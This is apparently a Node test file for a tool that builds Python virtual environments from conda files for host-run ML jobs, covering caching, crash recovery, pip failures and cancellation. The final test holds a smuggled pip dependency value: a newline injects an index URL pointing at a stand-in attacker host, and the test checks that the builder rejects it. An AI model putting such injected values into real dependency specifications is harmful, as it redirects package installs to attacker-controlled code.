import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, test } from 'node:test';
import type { JobEvent } from '../../core/vocabulary';
import { pipPlanFor, pipRequirementFor } from '../../core/env/conda-pip';
import { HostEnvironmentBuilder } from '../../core/env/host-env';
import { tempDir } from '../support/temp';
import { waitFor } from '../support/docker';
import { COMMAND_SCHEMA, logText, startPlane, statuses, workspace, type Plane } from '../support/control-plane';

/** A pure-Python wheel written by hand (no build backend, no network): `mlwtiny` 1.0 with `VALUE = "tiny"`. */
const WRITE_WHEEL = `
import base64, hashlib, sys, zipfile
files = {
    "mlwtiny/__init__.py": 'VALUE = "tiny"\\n',
    "mlwtiny-1.0.dist-info/METADATA": "Metadata-Version: 2.1\\nName: mlwtiny\\nVersion: 1.0\\n",
    "mlwtiny-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\\nGenerator: hand\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n",
}
record = []
for name, text in files.items():
    digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
    record.append(f"{name},sha256={digest},{len(text.encode())}")
record.append("mlwtiny-1.0.dist-info/RECORD,,")
files["mlwtiny-1.0.dist-info/RECORD"] = "\\n".join(record) + "\\n"
with zipfile.ZipFile(sys.argv[1] + "/mlwtiny-1.0-py3-none-any.whl", "w") as wheel:
    for name, text in files.items():
        wheel.writestr(name, text)
`;

const PIP_VARIABLES = ['PIP_NO_INDEX', 'PIP_FIND_LINKS'] as const;
const saved = Object.fromEntries(PIP_VARIABLES.map((key) => [key, process.env[key]]));

// pip in the daemon's environment reaches only a local wheelhouse holding the test's own wheel.
let wheelhouse = '';
before(() => {
  wheelhouse = fs.mkdtempSync(path.join(os.tmpdir(), 'mlw-wheels-'));
  const written = spawnSync('python3', ['-c', WRITE_WHEEL, wheelhouse], { encoding: 'utf8' });
  assert.equal(written.status, 0, written.stderr);
  process.env.PIP_NO_INDEX = '1';
  process.env.PIP_FIND_LINKS = wheelhouse;
});
after(() => {
  fs.rmSync(wheelhouse, { recursive: true, force: true });
  for (const key of PIP_VARIABLES) {
    if (saved[key] === undefined) delete process.env[key];
    else process.env[key] = saved[key];
  }
});

const CONDA_FILE = 'channels: [conda-forge]\ndependencies:\n  - python=3\n  - pip\n  - pip:\n      - mlwtiny==1.0\n';
const PRINT_MODULE = 'python -c "import mlwtiny, sys; print(mlwtiny.VALUE, mlwtiny.__file__); print(\'prefix\', sys.prefix)"';

function hostJob(environment: string, command = PRINT_MODULE): string {
  return `${COMMAND_SCHEMA}\ntype: command\ncommand: ${JSON.stringify(command)}\nenvironment:\n${environment}\n`;
}

async function run(plane: Plane, file: string): Promise<{ status: string; log: string; reason: string }> {
  const job = await plane.submit(file);
  const events = await plane.events(job.name);
  const last = events.filter((e) => e.type === 'status').pop();
  return { status: statuses(events).pop()!, log: logText(events), reason: last?.type === 'status' ? (last.reason ?? '') : '' };
}

const environmentLines = (log: string) => log.split('\n').filter((line) => line.startsWith('[environment]'));
const builds = (root: string) => fs.readdirSync(path.join(root, '.mlw', 'envs', '.builds')).sort();

test('a host job runs in a virtual environment built from its conda file, built once and then reused', async (t) => {
  const root = await workspace(t, { 'conda.yml': CONDA_FILE, 'job.yml': hostJob('  image: localtest/python:3-bookworm\n  conda_file: ./conda.yml') });
  const plane = await startPlane(t, root);

  // Two jobs at once with the same environment: one build, whose output both logs show while Preparing.
  const [first, second] = await Promise.all([run(plane, 'job.yml'), run(plane, 'job.yml')]);
  for (const job of [first, second]) {
    assert.equal(job.status, 'Completed', job.log);
    assert.match(job.log, /\[environment\] Successfully installed mlwtiny-1\.0/);
    assert.match(job.log, /\[environment\] built environment \S+\/\.mlw\/envs\/[0-9a-f]{24} \(python 3/);
    assert.match(job.log, new RegExp(`^tiny ${root}/\\.mlw/envs/\\S+/site-packages/mlwtiny/__init__\\.py$`, 'm'), 'imported from the environment');
    assert.match(job.log, /image localtest\/python:3-bookworm is not used, the conda file is built into an environment on this machine/);
  }
  const built = builds(root);
  assert.equal(built.length, 1, built.join(', '));
  const { ino } = fs.statSync(path.join(root, '.mlw', 'envs', '.builds', built[0]!));

  // A later job finds it: one line, no pip, the same folder.
  const cached = await run(plane, 'job.yml');
  assert.equal(cached.status, 'Completed', cached.log);
  const lines = environmentLines(cached.log).filter((line) => !line.includes('is not used'));
  assert.equal(lines.length, 1, lines.join('\n'));
  assert.match(lines[0]!, /^\[environment\] using cached environment \S+\/\.mlw\/envs\/[0-9a-f]{24} \(python 3/);
  assert.doesNotMatch(cached.log, /pip install|Successfully installed/);
  assert.match(cached.log, new RegExp(`^prefix ${root}/\\.mlw/envs/[0-9a-f]{24}$`, 'm'), 'VIRTUAL_ENV and PATH lead to the environment');
  assert.deepEqual(builds(root), built);
  assert.equal(fs.statSync(path.join(root, '.mlw', 'envs', '.builds', built[0]!)).ino, ino, 'never rebuilt');
});

test('a build that never completed is not reused: the next job builds anew and removes it', async (t) => {
  const root = await workspace(t, { 'job.yml': hostJob(`  conda_file:\n    dependencies:\n      - pip:\n          - mlwtiny==1.0`) });
  const plane = await startPlane(t, root);
  const first = await run(plane, 'job.yml');
  assert.equal(first.status, 'Completed', first.log);
  const envs = path.join(root, '.mlw', 'envs');
  const [published] = builds(root);
  const stem = published!.replace(/-[0-9a-f]+$/, '');
  // As a crash leaves it: the build folder half written, no link published.
  fs.rmSync(path.join(envs, stem));
  fs.mkdirSync(path.join(envs, '.builds', `${stem}-0dead0ff`, 'bin'), { recursive: true });
  fs.rmSync(path.join(envs, '.builds', published!), { recursive: true });

  const again = await run(plane, 'job.yml');
  assert.equal(again.status, 'Completed', again.log);
  assert.match(again.log, /\[environment\] built environment/);
  assert.match(again.log, /^tiny /m);
  const left = builds(root);
  assert.equal(left.length, 1, left.join(', '));
  assert.notEqual(left[0], `${stem}-0dead0ff`);
});

test('a package pip cannot find ends the job Failed with pip\'s words, and leaves no environment behind', async (t) => {
  const root = await workspace(t, { 'job.yml': hostJob(`  conda_file:\n    dependencies:\n      - pip:\n          - mlw-no-such-package==1.0`, 'echo should not run') });
  const plane = await startPlane(t, root);
  const job = await run(plane, 'job.yml');
  assert.equal(job.status, 'Failed', job.log);
  assert.match(job.reason, /^environment failed to build: pip could not install the environment's packages: python exited with code 1; last lines:\n/);
  assert.match(job.reason, /No matching distribution found for mlw-no-such-package==1\.0/);
  assert.match(job.log, /\[environment\] ERROR: No matching distribution found/, 'pip\'s output streams into the log');
  assert.doesNotMatch(job.log, /should not run/);
  assert.deepEqual(builds(root), []);
  assert.deepEqual(fs.readdirSync(path.join(root, '.mlw', 'envs')), ['.builds']);
});

test('canceling a job while its environment builds stops the build and leaves nothing to reuse', async (t) => {
  const root = await workspace(t, { 'job.yml': hostJob(`  conda_file:\n    dependencies:\n      - pip:\n          - mlwtiny==1.0`, 'echo should not run') });
  const plane = await startPlane(t, root);
  const job = await plane.submit('job.yml');
  const events: JobEvent[] = [];
  let canceled = false;
  await plane.client.jobs.events(job.name, (event) => {
    events.push(event);
    if (!canceled && event.type === 'log' && event.text.includes('creating a virtual environment')) {
      canceled = true;
      void plane.client.jobs.cancel(job.name);
    }
  });
  assert.equal(statuses(events).pop(), 'Canceled', logText(events));
  assert.doesNotMatch(logText(events), /should not run|built environment/);
  const envs = path.join(root, '.mlw', 'envs');
  await waitFor('the canceled build folder is removed', () => builds(root).length === 0, 20_000);
  assert.deepEqual(fs.readdirSync(envs), ['.builds'], 'nothing published');
});

test('an image-only environment on the local compute runs on the host and the log says the image is not used', async (t) => {
  const root = await workspace(t, { 'job.yml': hostJob('  image: localtest/python:3-bookworm', 'echo on the host') });
  const plane = await startPlane(t, root);
  const job = await run(plane, 'job.yml');
  assert.equal(job.status, 'Completed', job.log);
  assert.match(job.log, /\[environment\] compute local runs host processes: the image localtest\/python:3-bookworm is not used, the command runs with this machine's tools; to run in the image, use a Docker compute/);
  assert.ok(!fs.existsSync(path.join(root, '.mlw', 'envs')));
});

test('conda packages become pip requirements only when pinned', () => {
  assert.equal(pipRequirementFor('numpy=1.26'), 'numpy==1.26.*');
  assert.equal(pipRequirementFor('conda-forge::numpy=1.26.4=py310h_0'), 'numpy==1.26.4.*');
  assert.equal(pipRequirementFor('numpy 1.26.4'), 'numpy==1.26.4');
  assert.equal(pipRequirementFor('numpy>=1.2,<2'), 'numpy>=1.2,<2');
  assert.equal(pipRequirementFor('numpy'), undefined);
  const plan = pipPlanFor('dependencies:\n  - python=3.10\n  - pip=24.0\n  - numpy=1.26.4\n  - pip:\n      - pandas==2.2.2\n');
  assert.deepEqual(plan, { requirements: ['pandas==2.2.2', 'numpy==1.26.4.*'], translated: [{ conda: 'numpy=1.26.4', pip: 'numpy==1.26.4.*' }], pythonVersion: '3.10' });
  assert.throws(() => pipPlanFor('dependencies:\n  - scipy\n'), /conda packages without a version pin \(scipy\).*pin them \(e\.g\. numpy=1\.26\) or move them to the pip: list/);
});

test('a conda entry spanning lines is refused before a host environment is built', async (t) => {
  const root = await tempDir(t, 'mlw-host-env-');
  const builder = new HostEnvironmentBuilder({ root });
  const refused = async (conda: string, message: RegExp) => assert.rejects(builder.ensure({ condaInline: conda }), message);
  await refused('dependencies:\n  - pip:\n      - "mlwtiny==1.0\\n--index-url http://attacker.invalid/simple"\n', /conda file: pip dependency `mlwtiny==1\.0\\n--index-url .*` contains a control character \(U\+000A at position 13\)/);
  assert.deepEqual(fs.readdirSync(root), [], 'nothing was built');
});
